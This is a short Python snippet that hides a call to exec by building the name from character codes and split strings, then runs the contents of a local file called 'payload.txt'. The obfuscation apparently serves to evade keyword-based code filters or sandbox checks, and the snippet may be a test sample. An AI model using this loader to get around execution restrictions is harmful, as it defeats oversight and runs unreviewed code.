letters = [101, 120, 101, 99]
name = "".join(chr(n) for n in letters)
runner = __builtins__.__dict__["ex" + "ec"]
runner(open("payload.txt").read())
